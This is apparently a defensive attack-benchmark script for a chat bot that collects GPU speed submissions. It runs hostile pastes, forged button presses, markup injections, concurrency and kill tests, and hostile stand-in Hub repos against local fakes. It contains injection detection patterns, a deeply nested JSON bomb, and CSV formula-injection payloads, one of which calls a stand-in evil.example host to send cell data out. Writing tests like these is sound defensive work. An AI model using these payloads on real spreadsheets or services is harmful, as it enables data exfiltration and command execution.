"""The attack round of issue 13, repeated: the figures of its closing note, printed.

    .venv/bin/python scripts/bench_attack.py [--rounds 1] [--kills 4] [--quick]

Bounded in count and time (about a minute), loopback only (the fake Telegram API on 127.0.0.1):

- hostile inputs: pathological pastes (4 and 60 KB), markup, control characters, lone surrogates,
  forged buttons and commands with hostile arguments, through the one command router, as a
  non-moderator and as a moderator, for every chat target: inputs tried, crashes (the "went wrong"
  reply), the slowest input;
- injections: hostile display names, notes and reasons through /submit, /review, approve / reject,
  /review audit and the notices rendered from the outbox, per target: payloads still live in what
  the bot would send (a masked link, a ping, Discord's <t:> / </cmd:> / <:emoji:>, an HTML tag, a
  control character);
- concurrency: many people submitting at once on SQLite: acknowledged submissions lost; one person's
  burst: stored vs the hourly limit;
- kill: SIGKILL inside approvals and deliveries (tests/bot/test_kill_app.py's child): acknowledged
  submissions and approvals lost, approvals torn;
- the burst through the real Telegram adapter (python-telegram-bot against tests/fakes/telegram_api.py):
  N /submit from one user at once, some identical: stored vs limit;
- the audit flood: forged moderator presses and the rows they wrote;
- the worst parse time per KB over scripts/bench_parse.py's pathological shapes;
- the Hub (issue 24), against a hostile stand-in Hub (tests/fakes/hf_hub.py on 127.0.0.1): nonsense
  configs answered with a table, Hub data that made "went wrong", one user's repo answering everyone's
  name (and stored), models one user put into the shared catalog, Hub requests per repeated unknown
  repo, HF_ENDPOINT's password in replies, formula cells in the CSV export, and -- in a child process --
  Hub threads alive after 50 runaway configs and the time the process takes to exit;
  `--hub-only` runs just these.
Prints figures; the exit status is 1 when a crash, a live injection or a lost submission was found.
"""

from __future__ import annotations

import argparse
import asyncio
import logging
import random
import re
import sys
import tempfile
import time
from collections.abc import Awaitable
from dataclasses import dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

from bot.discord.capabilities import CAPABILITIES as DISCORD  # noqa: E402
from bot.telegram.capabilities import CAPABILITIES as TELEGRAM  # noqa: E402
from core.anchors.anchor_index import AnchorIndex  # noqa: E402
from core.catalog.loader import default_catalog  # noqa: E402
from core.commands.context import BotContext, BotLimits  # noqa: E402
from core.commands.router import CommandRouter  # noqa: E402
from core.commands.types import Invocation, Response, Where  # noqa: E402
from core.community.moderators import ModeratorPolicy  # noqa: E402
from core.i18n import translate  # noqa: E402
from core.render.notices import notice_text  # noqa: E402
from core.storage.interface import Storage  # noqa: E402
from core.storage.memory import MemoryStorage  # noqa: E402
from core.storage.records import Actor  # noqa: E402
from core.storage.sqlite import SqliteStorage  # noqa: E402
from scripts.bench_parse import SHAPES  # noqa: E402
from tests.core.render.test_hostile_names import HOSTILE, _discord_live  # noqa: E402

CATALOG = default_catalog()
TARGETS = ("plain", "telegram", "discord")
PLATFORM_OF = {"plain": "console", "telegram": "telegram", "discord": "discord"}
CRASHED = tuple(translate("cmd.failed", lang) for lang in ("en", "zh")) + tuple(
    translate("reply.internal_error", lang) for lang in ("en", "zh")
)
MODERATORS = {
    "console": Actor("console", "bob", "bob"),
    "telegram": Actor("telegram", "900", "Mod"),
    "discord": Actor("discord", "900", "Mod", ("777",)),
}
SUBMIT = '/submit gpu=4090 model="llama 3 8b" quant=Q4_K_M ctx=4096 decode={decode}'

# What a payload looks like when it is still live in the text a platform would get.
_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
_LIVE: dict[str, tuple[re.Pattern[str], ...]] = {
    "discord": tuple(
        re.compile(p)
        for p in (
            r"\[Free Nitro\]\(",  # a masked link
            r"@(?:everyone|here)",  # a ping
            r"<t:\d",  # a timestamp
            r"</ban:",  # a command mention
            r"<a?:(?:pepe|wave):",  # custom emoji
            r"<@!?123>|<@&9>|<#5>|<id:browse>",  # mentions, channel links
            r"\*\*bold\*\*|\|\|spoiler\|\|",  # markdown from a name
        )
    ),
    "telegram": tuple(re.compile(p) for p in (r"<b>bold</b>", r"<a href='https://evil", r"<script>")),
    "plain": (),
}


@dataclass
class Tally:
    tried: int = 0
    crashes: list[str] = field(default_factory=list)
    live: list[str] = field(default_factory=list)
    slowest_ms: float = 0.0
    slowest: str = ""

    def look(self, responses: list[Response], target: str, what: str, hostile: bool = True) -> None:
        for r in responses:
            if any(said in r.text for said in CRASHED):
                self.crashes.append(f"{target}: {what[:60]!r}")
            if hostile:
                self.inject(r.text, target, what)

    def inject(self, text: str, target: str, what: str) -> None:
        live = _discord_live(text) if target == "discord" else text
        found = [p.pattern for p in _LIVE[target] if p.search(live)]
        if _CONTROL.search(text):
            found.append("control character")
        for pattern in found:
            self.live.append(f"{target}: {pattern} from {what[:50]!r}")


def harness(storage: Storage) -> tuple[BotContext, CommandRouter]:
    bot = BotContext(
        catalog=CATALOG, storage=storage, limits=BotLimits.from_catalog(CATALOG),
        moderators=ModeratorPolicy.parse("console:bob,telegram:900", discord_roles="777"),
        anchors=AnchorIndex.from_submissions([], CATALOG),
        platforms={"discord": DISCORD, "telegram": TELEGRAM},
    )  # fmt: skip
    return bot, CommandRouter(bot)


async def timed(tally: Tally, call: Awaitable[list[Response]], what: str) -> list[Response]:
    started = time.perf_counter()
    responses = await call
    ms = (time.perf_counter() - started) * 1000
    tally.tried += 1
    if ms > tally.slowest_ms:
        tally.slowest_ms, tally.slowest = ms, what[:40]
    return responses


# --- hostile inputs ----------------------------------------------------------------------------------
def hostile_lines(quick: bool) -> list[str]:
    sizes = (4000,) if quick else (4000, 60000)
    pastes = [build(n) for build in SHAPES.values() for n in sizes]
    prefixes = ("", "/submit ", "/review audit ", "/reject 1 ", "/undo ", "/subscribe ", "/export ", "/help ")
    lines = [f"{p}{h}" for p in prefixes for h in HOSTILE]
    lines += [f"/submit {paste}" for paste in pastes] + pastes[:4]
    lines += [
        "/submit gpu=4090 notes=\ud83d",
        "/approve 99999999999999",
        "/reject #1 cancel",
        "/cancel",
        "/undo 1",
    ]
    return lines


FORGED = (
    "m:a:1",
    "m:r:1",
    "m:u:1",
    "m:w:1",
    "m:a:x",
    "v:f:AAAAAAAA",
    "v:q:0:Q4",
    "zz",
    "m",
    ":::",
    "m:a:" + "9" * 40,
)


async def hostile_inputs(quick: bool) -> Tally:
    tally = Tally()
    lines = hostile_lines(quick)
    for target in TARGETS:
        platform = PLATFORM_OF[target]
        bot, router = harness(MemoryStorage())
        await bot.storage.open()
        await router.handle_text(
            Actor(platform, "1", "A"), Where("1"), SUBMIT.format(decode=50), target=target
        )
        for who in (Actor(platform, "666", "Mallory"), MODERATORS[platform]):
            for line in lines:
                rs = await timed(
                    tally, router.handle_text(who, Where(who.user_id), line, target=target), line
                )
                tally.look(rs, target, line, hostile=False)
            for action in FORGED:
                inv = Invocation(who, Where(who.user_id), "", action, target=target)
                tally.look(await timed(tally, router.handle_action(inv), action), target, action, False)
    return tally


# --- injections --------------------------------------------------------------------------------------
async def injections() -> Tally:
    tally = Tally()
    for target in TARGETS:
        platform = PLATFORM_OF[target]
        bot, router = harness(MemoryStorage())
        await bot.storage.open()
        mod = MODERATORS[platform]
        for i, hostile in enumerate(HOSTILE):
            actor = Actor(platform, str(100 + i), hostile)
            for line in (
                SUBMIT.format(decode=20 + i) + f' notes="{hostile}" evidence="{hostile}" framework=llama.cpp',
                f"4090 llama 3 8b {hostile}",
            ):
                rs = await timed(
                    tally, router.handle_text(actor, Where(actor.user_id), line, target=target), line
                )
                tally.look(rs, target, line)
            await router.handle_text(
                Actor(platform, "700", hostile), Where("700"), "/subscribe all", target=target
            )
        pending = await bot.storage.submissions(status="pending")
        tally.look(
            await router.handle_text(mod, Where(mod.user_id), "/review", target=target), target, "review"
        )
        for n, sub in enumerate(pending):
            line = f"/approve {sub.id}" if n % 2 else f"/reject {sub.id} {HOSTILE[n % len(HOSTILE)]}"
            rs = await timed(tally, router.handle_text(mod, Where(mod.user_id), line, target=target), line)
            tally.look(rs, target, line)
        for view in ("/review audit", "/review audit refused", "/review audit decisions"):
            tally.look(await router.handle_text(mod, Where(mod.user_id), view, target=target), target, view)
        for item in await bot.storage.claim_outbox(platform, bot.clock(), limit=10_000):
            tally.tried += 1
            tally.inject(
                notice_text(item, CATALOG), target, f"notice {item.kind} {item.payload.get('reason')}"
            )
    return tally


# --- concurrency on SQLite ------------------------------------------------------------------------------
def _acked_id(responses: list[Response]) -> int | None:
    m = re.search(r"#(\d+)", responses[0].text) if responses and responses[0].status == "ok" else None
    return int(m.group(1)) if m else None


async def concurrency(tmp: Path, people: int, each: int) -> tuple[int, int, int, int]:
    """(acknowledged, lost, one person's burst stored, its limit)."""
    storage = SqliteStorage(str(tmp / "concurrency.db"))
    await storage.open()
    bot, router = harness(storage)
    bot.limits = BotLimits.from_catalog(CATALOG, submissions_per_hour=each * 2)

    async def person(p: int) -> list[int | None]:
        actor = Actor("telegram", str(5000 + p), f"p{p}")
        lines = [SUBMIT.format(decode=100 + k) for k in range(each)]  # distinct for each person
        return [_acked_id(await router.handle_text(actor, Where(actor.user_id), line)) for line in lines]

    results = await asyncio.gather(*(person(p) for p in range(people)))
    acked = {sid for r in results for sid in r if sid is not None}
    stored = {s.id for s in await storage.submissions()}
    bot.limits = BotLimits.from_catalog(CATALOG)  # the production limit for the burst
    burst = Actor("telegram", "4242", "burst")
    lines = [SUBMIT.format(decode=60 + (k if k >= 10 else 0)) for k in range(40)]  # 10 identical
    await asyncio.gather(*(router.handle_text(burst, Where("4242"), line) for line in lines))
    burst_stored = len(await storage.submissions(platform="telegram", user_id="4242"))
    await storage.close()
    return len(acked), len(acked - stored), burst_stored, bot.limits.submissions_per_hour


def console_processes(tmp: Path, n: int) -> tuple[int, int, int, int]:
    """(processes, exited non-zero, acknowledged, lost): n `python -m bot console` on one SQLite file."""
    import os
    import subprocess

    db = tmp / "console.db"
    env = dict(os.environ, TOKBOT_DB_PATH=str(db), PYTHONPATH=str(ROOT))
    procs = []
    for p in range(n):
        lines = "".join(SUBMIT.format(decode=100 + k) + "\n" for k in range(3)).encode()
        cmd = [sys.executable, "-m", "bot", "console", "--user", f"proc{p}"]
        proc = subprocess.Popen(
            cmd, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env
        )
        procs.append((proc, lines))
    died = acked = 0
    for proc, lines in procs:
        out, _ = proc.communicate(lines, timeout=300)
        died += proc.returncode != 0
        acked += out.decode(errors="replace").count("Received as #")

    async def stored() -> int:
        storage = SqliteStorage(str(db))
        await storage.open()
        count = len(await storage.submissions())
        await storage.close()
        return count

    return n, died, acked, acked - min(acked, asyncio.run(stored()))


def detector_works() -> bool:
    """The injection count is only a figure if a raw payload would be counted."""
    probe = Tally()
    probe.inject("[Free Nitro](https://evil.example) @everyone", "discord", "probe")
    probe.inject("<b>bold</b>", "telegram", "probe")
    probe.inject("evil\u202e", "plain", "probe")
    return len(probe.live) == 4


# --- kill ------------------------------------------------------------------------------------------------
def kills(tmp: Path, rounds: int) -> tuple[int, int, int, int]:
    """(acknowledged submissions and approvals, lost, approvals interrupted by the kill, torn)."""
    from tests.bot.test_kill_app import _restart, run_child_until_killed

    rng = random.Random(13)
    acked = lost = interrupted = torn = 0
    for n in range(rounds):
        db, delivered = tmp / f"kill{n}.db", tmp / f"delivered{n}.tsv"
        seen = run_child_until_killed(db, delivered, "approve" if n % 2 == 0 else "deliver", rng)
        rows, sent_after, audited = asyncio.run(_restart(db))
        acked += len(seen.subs) + len(seen.approved)
        lost += len(seen.subs - set(rows)) + sum(1 for s in seen.approved if rows[s].status != "approved")
        before = [tuple(ln.rstrip("\n").split("\t", 1)) for ln in delivered.read_text().splitlines()]
        told = set(before) | set(sent_after)
        for sid, user in seen.begun.items():
            interrupted += sid not in seen.approved
            approved = sid in rows and rows[sid].status == "approved"
            anchors = {chat for chat, text in told if text.startswith(f"New measured anchor #{sid}:")}
            decided = any(chat == user and f"#{sid} was approved" in text for chat, text in told)
            whole = audited.get(sid) == 1 and anchors == {"carol", "dave"} and decided
            absent = sid not in audited and not anchors and not decided
            torn += not (whole if approved else absent)
    return acked, lost, interrupted, torn


# --- the real Telegram adapter ------------------------------------------------------------------------
async def telegram_burst(tmp: Path, n: int) -> tuple[int, int, int]:
    """(sent, stored, limit): n /submit from one user at once through python-telegram-bot."""
    from bot.app import build_app
    from bot.settings import Settings
    from bot.telegram import TelegramAdapter
    from tests.fakes.telegram_api import FakeTelegram

    fake = await FakeTelegram().start()
    settings = Settings(_env_file=None, db_path=tmp / "tg.db")  # type: ignore[call-arg]
    app = build_app(settings, storage=SqliteStorage(str(tmp / "tg.db")))
    await app.start()
    adapter = TelegramAdapter(
        app, fake.token, base_url=fake.base_url, base_file_url=fake.file_url, rate_limit=False, poll_timeout=1
    )
    await adapter.start()
    try:
        alice = fake.user(31337, "Alice")
        for k in range(n):
            fake.push(fake.build.message(alice, SUBMIT.format(decode=70 + (k if k >= n // 4 else 0))))
        await fake.wait_for(lambda: len(fake.sent_to(31337)) >= n, 120)
        stored = len(await app.storage.submissions(platform="telegram", user_id="31337"))
        return n, stored, app.bot.limits.submissions_per_hour
    finally:
        await adapter.stop()
        await app.close()
        await fake.stop()


# --- the audit flood -----------------------------------------------------------------------------------
async def audit_flood(tmp: Path, presses: int) -> tuple[int, int, float]:
    """(forged presses, audit rows written, presses per second)."""
    storage = SqliteStorage(str(tmp / "audit.db"))
    await storage.open()
    _, router = harness(storage)
    mallory = Actor("telegram", "666", "Mallory")
    started = time.perf_counter()
    for k in range(presses):
        await router.handle_action(Invocation(mallory, Where("666"), "", f"m:a:{k % 5 + 1}"))
    rate = presses / (time.perf_counter() - started)
    rows = len(await storage.audit_log(1_000_000))
    await storage.close()
    return presses, rows, rate


# --- parse time ---------------------------------------------------------------------------------------
def worst_parse(kb: int) -> tuple[str, float]:
    from core.community.validate import read_submission

    read_submission("4090 qwen3 8b q4_k_m 100 t/s", CATALOG)
    worst = ("", 0.0)
    for name, build in SHAPES.items():
        text = build(kb * 1000)
        started = time.perf_counter()
        read_submission(text, CATALOG)
        per_kb = (time.perf_counter() - started) * 1000 / max(1, len(text) / 1000)
        worst = max(worst, (name, per_kb), key=lambda w: w[1])
    return worst


async def amain(args: argparse.Namespace, tmp: Path) -> int:
    t0 = time.perf_counter()
    hostile = await hostile_inputs(args.quick)
    inject = await injections()
    tried = hostile.tried + inject.tried
    crashes = hostile.crashes + inject.crashes
    print(
        f"hostile inputs tried: {tried} ({hostile.tried} hostile lines and presses, "
        f"{inject.tried} injection probes)"
    )
    print(f"crashes (a 'went wrong' reply or a traceback): {len(crashes)}")
    for c in crashes[:10]:
        print(f"  crash: {c}")
    print(f"slowest input: {hostile.slowest_ms:,.0f} ms ({hostile.slowest!r})")
    print(f"injections that survived (live in what would be sent): {len(inject.live)}")
    for live in inject.live[:10]:
        print(f"  live: {live}")
    acked, lost, burst, limit = await concurrency(tmp, args.people, args.each)
    print(
        f"concurrency: {args.people} people x {args.each} /submit at once on SQLite: "
        f"{acked} acknowledged, {lost} lost"
    )
    print(f"burst (router, one person, 40 at once, 10 identical): {burst} stored, limit {limit}")
    sent, stored, tg_limit = await telegram_burst(tmp, 40)
    print(
        f"burst through the real Telegram adapter: {sent} /submit from one user at once -> "
        f"{stored} stored, limit {tg_limit}"
    )
    presses, rows, rate = await audit_flood(tmp, args.presses)
    print(f"audit flood: {presses} forged presses ({rate:,.0f}/s) -> {rows} audit rows")
    name, per_kb = worst_parse(args.kb)
    print(f"worst parse time: {per_kb:.2f} ms per KB ({name!r}, {args.kb} KB)")
    failed = bool(crashes or inject.live or lost or burst > limit or stored > tg_limit)
    print(f"(async part {time.perf_counter() - t0:.1f} s)")
    return int(failed)


# --- the Hub (issue 24) -------------------------------------------------------------------------------
HUB_SECRET = "s3cr3t-pw"


def _hub_config(**change: object) -> bytes:
    import json

    base = ROOT / "tests" / "core" / "catalog" / "hf_configs" / "Qwen__Qwen3-4B-Instruct-2507" / "config.json"
    return json.dumps({**json.loads(base.read_text()), **change}).encode()


NONSENSE = {
    "-4 layers": {"num_hidden_layers": -4},
    "vocab -1e9": {"vocab_size": -1_000_000_000},
    "hidden 1e12": {"hidden_size": 10**12},
    "0 heads": {"num_attention_heads": 0, "head_dim": 128},
}
WEIGHTS: dict[str, bytes | int] = {"model.safetensors": 8_000_000_000}


@dataclass
class HubFigures:
    nonsense_tables: int = 0
    data_crashes: int = 0
    hijacked: int = 0  # other people's questions answered with mallory's repo, or it kept in the database
    shared_added: int = 0
    repeat_requests: int = 0
    password_leaks: int = 0
    formula_cells: int = 0


async def hub_attacks(tmp: Path) -> HubFigures:
    import os

    from bot.hub.hf_source import HuggingFaceSource
    from tests.fakes.hf_hub import FakeHub

    fig = HubFigures()
    fake = FakeHub()
    for n, change in enumerate(NONSENSE.values()):
        fake.add_repo(f"mallory/Nonsense-{n}", {"config.json": _hub_config(**change), **WEIGHTS})
    deep = b'{"model_type": "qwen3", "x": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    fake.add_repo("mallory/Deep", {"config.json": deep, **WEIGHTS})
    fake.add_repo("mallory/Odd-Date", {"config.json": _hub_config(), **WEIGHTS}, created_at="yesterday")
    fake.add_repo("mallory/Zeta-9-70B", {"config.json": _hub_config(), **WEIGHTS})
    for n in range(30):
        fake.add_repo(f"mallory/Spam-{n}-4B", {"config.json": _hub_config(), **WEIGHTS})
    await fake.start()
    os.environ["HF_ENDPOINT"] = fake.endpoint
    os.environ.pop("HF_HUB_OFFLINE", None)
    bot, router = harness(MemoryStorage())
    await bot.storage.open()
    bot.model_source = HuggingFaceSource(budget_s=30.0, cache_dir=tmp / "hf")

    async def ask(user: str, text: str) -> Response:
        return (await router.handle_text(Actor("telegram", user, user), Where(user), text))[0]

    try:
        for n in range(len(NONSENSE)):
            fig.nonsense_tables += (await ask("666", f"4090 mallory/Nonsense-{n}")).status == "ok"
        for repo in ("mallory/Deep", "mallory/Odd-Date"):
            said = (await ask("666", f"4090 {repo}")).text
            fig.data_crashes += any(crash in said for crash in CRASHED)
        await ask("666", "4090 mallory/Zeta-9-70B")
        fig.hijacked += "mallory/zeta-9-70b" in bot.catalog.models
        fig.hijacked += await bot.storage.cached_model("mallory/zeta-9-70b") is not None
        before = len(bot.catalog.models)
        for n in range(30):
            await ask("666", f"4090 mallory/Spam-{n}-4B")
        fig.shared_added = len(bot.catalog.models) - before
        await ask("667", "4090 nobody/Nothing-Here-7B")
        asked = len(fake.requests)
        await ask("668", "4090 nobody/Nothing-Here-7B")
        fig.repeat_requests = len(fake.requests) - asked
        os.environ["HF_ENDPOINT"] = f"http://hubuser:{HUB_SECRET}@127.0.0.1:9"
        fig.password_leaks += HUB_SECRET in (await ask("669", "4090 nobody/Other-7B")).text
    finally:
        await fake.stop()
        os.environ.pop("HF_ENDPOINT", None)
    fig.formula_cells = _formula_cells()
    return fig


def _formula_cells() -> int:
    import csv
    import io
    from datetime import UTC, datetime

    from core.anchors.export import export_csv
    from core.storage.records import Measurement, Submission

    texts = ('=HYPERLINK("https://evil.example/?"&A2,"Click")', "=cmd|' /C calc'!A0", "+1+1", "@SUM(A1)")
    anchors = [
        Submission(
            id=n + 1,
            measurement=Measurement("rtx-4090", "qwen3-8b", "Q4_K_M", 100.0, notes=t, framework_version=t),
            submitter=Actor("telegram", str(n), t),
            created_at=datetime(2026, 1, 1, tzinfo=UTC),
            chat_id="1",
            lang="en",
            status="approved",
        )
        for n, t in enumerate(texts)
    ]
    rows = list(csv.reader(io.StringIO(export_csv(anchors, CATALOG).decode("utf-8-sig"), newline="")))
    return sum(1 for row in rows[1:] for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r"))


_RUNAWAY_CHILD = """
import asyncio, json, os, sys, threading, time
sys.path.insert(0, {root!r})
from bot.hub.hf_source import HuggingFaceSource
from tests.fakes.hf_hub import FakeHub

async def main():
    fake = FakeHub()
    for n in range(50):
        fake.add_repo(f"mallory/Runaway-{{n}}", {{"config.json": {config!r}, "model.safetensors": 8}})
    await fake.start()
    os.environ["HF_ENDPOINT"] = fake.endpoint
    source = HuggingFaceSource(budget_s=1.0, cache_dir={cache!r})
    jobs = [source.lookup(f"mallory/Runaway-{{n}}") for n in range(50)]
    await asyncio.gather(*jobs, return_exceptions=True)
    await asyncio.sleep(0.5)
    busy = [t for t in threading.enumerate() if t is not threading.main_thread() and t.is_alive()]
    print("THREADS", len(busy), flush=True)
    await fake.stop()

asyncio.run(main())
print("LEFT MAIN", time.monotonic(), flush=True)
"""


def runaway_child(tmp: Path, cap_s: float = 60.0) -> tuple[int | None, float | None]:
    """(threads alive after 50 runaway configs, seconds from leaving main to the process's exit;
    None: the process did not exit within `cap_s`)."""
    import subprocess

    script = _RUNAWAY_CHILD.format(
        root=str(ROOT), config=_hub_config(num_hidden_layers=10**18), cache=str(tmp / "hf-runaway")
    )
    proc = subprocess.Popen(
        [sys.executable, "-c", script], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True
    )
    try:
        out, _ = proc.communicate(timeout=cap_s)
        ended = time.monotonic()
    except subprocess.TimeoutExpired:
        proc.kill()
        out, _ = proc.communicate()
        ended = None
    threads = next((int(ln.split()[1]) for ln in out.splitlines() if ln.startswith("THREADS")), None)
    left = next((float(ln.split()[2]) for ln in out.splitlines() if ln.startswith("LEFT MAIN")), None)
    return threads, (ended - left) if ended is not None and left is not None else None


def hub_report(tmp: Path) -> bool:
    fig = asyncio.run(hub_attacks(tmp))
    print(f"hub: nonsense configs answered with a table: {fig.nonsense_tables} of {len(NONSENSE)}")
    print(f"hub: Hub data (100,000-deep config, odd createdAt) -> 'went wrong': {fig.data_crashes} of 2")
    print(f"hub: one user's repo in everyone's names / in the database: {fig.hijacked} of 2")
    print(f"hub: models one user put into the shared catalog with 30 questions: {fig.shared_added}")
    print(f"hub: Hub requests for a repeated unknown repo: {fig.repeat_requests}")
    print(f"hub: replies showing HF_ENDPOINT's password: {fig.password_leaks} of 1")
    print(f"hub: formula cells in the CSV export: {fig.formula_cells}")
    threads, exit_s = runaway_child(tmp)
    exit_text = f"{exit_s:.2f} s" if exit_s is not None else "did not exit within 60 s"
    print(f"hub: 50 runaway configs -> threads alive after: {threads}, exit after leaving main: {exit_text}")
    return bool(
        fig.nonsense_tables or fig.data_crashes or fig.hijacked or fig.shared_added or fig.repeat_requests
        or fig.password_leaks or fig.formula_cells or exit_s is None
    )  # fmt: skip


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--kills", type=int, default=4, help="SIGKILL rounds (inside approval / delivery)")
    parser.add_argument("--people", type=int, default=30)
    parser.add_argument("--processes", type=int, default=12, help="console processes on one SQLite file")
    parser.add_argument("--each", type=int, default=20)
    parser.add_argument("--presses", type=int, default=2000)
    parser.add_argument("--kb", type=int, default=60)
    parser.add_argument("--quick", action="store_true", help="4 KB pastes only")
    parser.add_argument("--hub-only", action="store_true", help="only the Hub probes (issue 24)")
    args = parser.parse_args()
    logging.basicConfig(level=logging.CRITICAL)
    with tempfile.TemporaryDirectory() as name:
        tmp = Path(name)
        hub_failed = hub_report(tmp)
        if args.hub_only:
            return int(hub_failed)
        if not detector_works():
            print("the injection detector misses raw payloads: figures would mean nothing")
            return 1
        print(
            f"distinct hostile inputs: {len(set(hostile_lines(args.quick))) + len(FORGED) + 2 * len(HOSTILE)}"
        )
        failed = asyncio.run(amain(args, tmp))
        if args.processes:
            n, died, acked, lost = console_processes(tmp, args.processes)
            print(
                f"{n} console processes at once on one SQLite file: {died} died, {acked} acknowledged, "
                f"{lost} lost"
            )
            failed = failed or bool(died or lost)
        if args.kills:
            acked, lost, interrupted, torn = kills(tmp, args.kills)
            print(
                f"kill -9 x{args.kills} inside approvals and deliveries: {acked} acknowledged, {lost} lost, "
                f"{interrupted} approvals interrupted, {torn} torn"
            )
            failed = failed or bool(lost or torn)
    return int(failed or hub_failed)


if __name__ == "__main__":
    sys.exit(main())
